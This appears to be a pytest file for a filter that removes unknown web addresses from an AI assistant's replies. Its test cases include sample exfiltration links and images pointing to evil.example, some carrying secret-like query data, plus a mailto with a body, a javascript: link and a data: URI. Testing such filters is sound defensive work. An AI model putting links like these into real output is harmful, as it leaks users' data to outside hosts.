"""No address carries the person's words away."""

from __future__ import annotations

from time import process_time

import pytest

from vertraut.assistant.links import without_foreign_addresses

KNOWN = "Siehe https://praxis.example/termin und mail an info@praxis.example"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Der Termin: https://praxis.example/termin.", "Der Termin: https://praxis.example/termin."),
        ("Klick https://evil.example/?q=Passwort jetzt.", "Klick [Adresse entfernt] jetzt."),
        ("![Bild](https://evil.example/x.png?d=geheim) Hallo", "!Bild Hallo"),
        ('<img src="https://evil.example/x"> Hallo', '< img src="[Adresse entfernt]"> Hallo'),
        ("[hier](https://evil.example/a)", "hier"),
        ("[hier](https://praxis.example/termin)", "[hier](https://praxis.example/termin)"),
        ("[hier](javascript:alert(1))", "hier)"),
        ("mailto:evil@example.com?body=geheim", "[Adresse entfernt]"),
        ("www.evil.example/geheim", "[Adresse entfernt]"),
        ("Um 10:30 Uhr, Verhältnis 3:2, Hinweis: bitte warten.", "Um 10:30 Uhr, Verhältnis 3:2, Hinweis: bitte warten."),
        ("data:text/html;base64,AAAA", "[Adresse entfernt]"),
    ],
)
def test_only_known_addresses_stay(text: str, shown: str) -> None:
    assert without_foreign_addresses(text, KNOWN, "de") == shown


def test_long_inputs_take_no_time() -> None:
    assert without_foreign_addresses("[" * 20_000 + "(" * 20_000, "", "en")
    assert without_foreign_addresses("http://" * 5_000, "", "en").startswith("[address removed]")


@pytest.mark.parametrize("begun", ["[a](", "![a](b ", "[", "<a ", "a@"])
def test_no_text_takes_long(begun: str) -> None:
    before = process_time()
    without_foreign_addresses(begun * 4000, begun * 4000, "de")
    assert process_time() - before < 5
